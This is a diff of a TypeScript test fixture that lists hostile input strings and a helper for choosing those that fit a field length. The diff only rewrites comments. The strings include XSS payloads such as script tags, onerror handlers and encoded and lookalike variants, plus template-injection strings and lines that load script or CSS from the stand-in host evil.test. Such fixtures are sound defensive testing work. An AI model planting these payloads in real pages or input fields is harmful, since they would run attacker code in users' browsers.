@@ -1,9 +1,9 @@
 /**
- * Texts that run something wherever a page takes them for more than text: markup, attributes, addresses, templates.
- * What they run is `alert(1)`, a call of evil.test, or a picture `x`. None is longer than a person's name may be.
+ * Texts that execute something wherever a page treats them as more than text: markup, attributes, addresses, templates. They
+ * execute `alert(1)`, a request to evil.test, or load a picture `x`. None is longer than a person's name may be.
  */
 export const hostileTexts: readonly string[] = [
-  // Script elements, and ways out of the element around them.
+  // Script elements, and texts that close the surrounding element.
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
   '<script src=//evil.test/x.js></script>',
@@ -63,7 +63,7 @@ export const hostileTexts: readonly string[] = [
   "<style>@import'//evil.test/x.css';</style>",
   '<div style=background:url(//evil.test/x)>x</div>',
   'x;background:url(//evil.test/x)',
-  // Templates, and ways out of a string.
+  // Templates, and texts that end a string.
   "{{constructor.constructor('alert(1)')()}}",
   '{{7*7}}',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that others take for a template
@@ -77,13 +77,13 @@ export const hostileTexts: readonly string[] = [
   "'-alert(1)-'",
   '__proto__',
   'constructor',
-  // Encoded once: it must not be decoded on the way.
+  // Encoded once: it must not be decoded.
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&#60;img src=x onerror=alert(1)&#62;',
   '%3Cscript%3Ealert(1)%3C/script%3E',
   '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
   '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-  // Characters that look like others, turn the line around, or cannot be seen.
+  // Characters that look like others, reverse the line, or are invisible.
   '＜script＞alert(1)＜/script＞',
   '<ſcript>alert(1)</ſcript>',
   'ʺ＞<img src=x onerror=alert(1)>',
@@ -91,13 +91,13 @@ export const hostileTexts: readonly string[] = [
   '<scr\u200Bipt>alert(1)</scr\u200Bipt>',
   '<img\u00A0src=x onerror=alert(1)>',
   'O\u2019Brien & \u201CSons\u201D <b>\u{10348}\u200D\u{20BB7}</b> e\u0301 \uFEFF!',
-  // What fits where there is little room.
+  // Short texts for short fields.
   '<b>x</b>',
   '"\'><b>',
   '<!--',
 ];
 
-/** The texts that fit a field, one after the other: `at(n)` begins anew behind the last. */
+/** Returns the texts that fit a field, in order: `at(n)` starts again after the last. */
 export function hostileTextsUpTo(max: number): { count: number; at(n: number): string } {
   const fitting = hostileTexts.filter((text) => text.length <= max);
   return { count: fitting.length, at: (n) => fitting[n % fitting.length]! };
